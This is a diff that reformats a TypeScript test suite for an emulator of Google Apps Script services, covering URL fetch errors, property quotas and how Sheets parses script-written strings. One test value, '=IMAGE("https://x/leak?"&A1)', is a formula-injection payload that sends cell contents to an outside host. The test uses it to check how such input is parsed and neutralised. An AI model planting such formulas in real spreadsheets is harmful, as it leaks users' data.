@@ -64,7 +64,9 @@ describe('UrlFetchApp', () => {
     expect(err).toBeInstanceOf(GasScriptError);
     expect(err?.gasName).toBe('Exception');
     expect(err?.message).toMatch(
-      new RegExp(`^Request failed for http://127\\.0\\.0\\.1:${fx.server.port} returned code 404\\. Truncated server response: \\{"error".{80,}\\.\\.\\. \\(use muteHttpExceptions option to examine full response\\)$`),
+      new RegExp(
+        `^Request failed for http://127\\.0\\.0\\.1:${fx.server.port} returned code 404\\. Truncated server response: \\{"error".{80,}\\.\\.\\. \\(use muteHttpExceptions option to examine full response\\)$`,
+      ),
     );
 
     const caught = r.call('fetchCatch', `${fx.server.url}/status/500?body=oops`);
@@ -83,9 +85,15 @@ describe('UrlFetchApp', () => {
     await new Promise<void>((res) => probe.listen(0, '127.0.0.1', () => res()));
     const deadPort = (probe.address() as { port: number }).port;
     await new Promise((res) => probe.close(res));
-    expect(r.call('fetchCatch', `http://127.0.0.1:${deadPort}/x`).message).toBe(`Address unavailable: http://127.0.0.1:${deadPort}/x`);
-    expect(r.call('fetchCatch', `${fx.server.url}/echo?q=a b`).message).toBe(`Invalid argument: ${fx.server.url}/echo?q=a b`);
-    expect(r.call('fetchCatch', `${fx.server.url}/echo?q=${'x'.repeat(2100)}`).message).toBe('Limit Exceeded: URLFetch URL Length.');
+    expect(r.call('fetchCatch', `http://127.0.0.1:${deadPort}/x`).message).toBe(
+      `Address unavailable: http://127.0.0.1:${deadPort}/x`,
+    );
+    expect(r.call('fetchCatch', `${fx.server.url}/echo?q=a b`).message).toBe(
+      `Invalid argument: ${fx.server.url}/echo?q=a b`,
+    );
+    expect(r.call('fetchCatch', `${fx.server.url}/echo?q=${'x'.repeat(2100)}`).message).toBe(
+      'Limit Exceeded: URLFetch URL Length.',
+    );
 
     expect(JSON.parse(r.call('fetchStatus', `${fx.server.url}/redirect?to=/echo`, false).text).path).toBe('/echo');
     expect(JSON.parse(r.call('fetchStatus', `${fx.server.url}/gzip`, false).text)).toEqual({ zipped: true });
@@ -169,13 +177,14 @@ describe('PropertiesService', () => {
     const r = rt();
     expect(r.call('tryProp', 'a', 'x'.repeat(9 * 1024))).toBe('ok');
     expect(r.call('tryProp', 'b', 'x'.repeat(9 * 1024 + 1))).toBe('Exception: Argument too large: value');
-    for (let i = 0; r.properties.script.bytes() < 500 * 1024 - 9 * 1024; i++) r.properties.script.set(`fill${i}`, 'x'.repeat(9000));
+    for (let i = 0; r.properties.script.bytes() < 500 * 1024 - 9 * 1024; i++)
+      r.properties.script.set(`fill${i}`, 'x'.repeat(9000));
     expect(r.call('tryProp', 'last', 'x'.repeat(9 * 1024))).toBe(
       'Exception: You have exceeded the property storage quota. Please remove some properties and try again.',
     );
   });
 
-  test('user properties are per user; a custom function reads the owner\'s and cannot write', () => {
+  test("user properties are per user; a custom function reads the owner's and cannot write", () => {
     const r = rt({ owner: 'owner@x.com' });
     r.call('propSet', 'user', 'API_KEY', 'owner-key');
     r.setActiveUser('editor@x.com');
@@ -198,8 +207,16 @@ describe('spreadsheet, UI, HTML, utilities', () => {
     sheet.setValues('A1', [['handle'], ['nasa'], ['esa']]);
     r.spreadsheet.select('Data!A2:A3');
     expect(r.call('selectionInfo')).toEqual({ a1: 'A2:A3', sheet: 'Data', values: [['nasa'], ['esa']], rows: 2 });
-    expect(r.call('writeCells', 'Data!B1:C2', [[1, 2], [3, new Date(0)]])).toBe(3);
-    expect(sheet.getValues('B1:C2')).toEqual([[1, 2], [3, new Date(0)]]);
+    expect(
+      r.call('writeCells', 'Data!B1:C2', [
+        [1, 2],
+        [3, new Date(0)],
+      ]),
+    ).toBe(3);
+    expect(sheet.getValues('B1:C2')).toEqual([
+      [1, 2],
+      [3, new Date(0)],
+    ]);
     expect(() => r.call('writeCells', 'Data!B1:C2', [[1]])).toThrow(
       'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
     );
@@ -217,16 +234,54 @@ describe('spreadsheet, UI, HTML, utilities', () => {
       { text: 'pass', background: '#b7e1cd', ranges: [{ row: 2, col: 2, numRows: 8, numCols: 1 }] },
       { text: 'fail', background: '#f4c7c3', ranges: [{ row: 2, col: 2, numRows: 8, numCols: 1 }] },
     ]);
-    expect(() => r.custom('colorWhen', 'Card!B2', 'x', '#fff')).toThrow('You do not have permission to call Sheet.setConditionalFormatRules');
+    expect(() => r.custom('colorWhen', 'Card!B2', 'x', '#fff')).toThrow(
+      'You do not have permission to call Sheet.setConditionalFormatRules',
+    );
   });
 
   test('strings written by a script are parsed as Sheets parses typed input, unless quoted or in a plain-text cell', () => {
     const r = rt({ timeZone: 'America/New_York' });
     const sheet = r.spreadsheet.addSheet('Data');
-    const typed = ['=IMAGE("https://x/leak?"&A1)', '0012345', '+15551234567', '12%', 'TRUE', 'false', '2026-01-05', '1/5/2026 10:30', '@x', "'x", "''x", '17841405793187218', '1,234.5', '-3', 'nasa', '=', ''];
+    const typed = [
+      '=IMAGE("https://x/leak?"&A1)',
+      '0012345',
+      '+15551234567',
+      '12%',
+      'TRUE',
+      'false',
+      '2026-01-05',
+      '1/5/2026 10:30',
+      '@x',
+      "'x",
+      "''x",
+      '17841405793187218',
+      '1,234.5',
+      '-3',
+      'nasa',
+      '=',
+      '',
+    ];
     r.call('writeCells', 'Data!A1:Q1', [typed]);
     const local = (y: number, mo: number, d: number, h = 0, mi = 0) => new Date(Date.UTC(y, mo - 1, d, h + 5, mi)); // EST is UTC-5
-    expect(sheet.getValues('A1:Q1')[0]).toEqual(['', 12345, 15551234567, 0.12, true, false, local(2026, 1, 5), local(2026, 1, 5, 10, 30), '@x', 'x', "'x", 17841405793187218, 1234.5, -3, 'nasa', '=', '']);
+    expect(sheet.getValues('A1:Q1')[0]).toEqual([
+      '',
+      12345,
+      15551234567,
+      0.12,
+      true,
+      false,
+      local(2026, 1, 5),
+      local(2026, 1, 5, 10, 30),
+      '@x',
+      'x',
+      "'x",
+      17841405793187218,
+      1234.5,
+      -3,
+      'nasa',
+      '=',
+      '',
+    ]);
     expect(sheet.formulas.get('1,1')).toBe('=IMAGE("https://x/leak?"&A1)');
     // The quote prefix keeps every one as the string after it; appendRow parses the same way.
     r.call('writeCells', 'Data!A2:Q2', [typed.map((t) => (t === '' ? '' : `'${t}`))]);
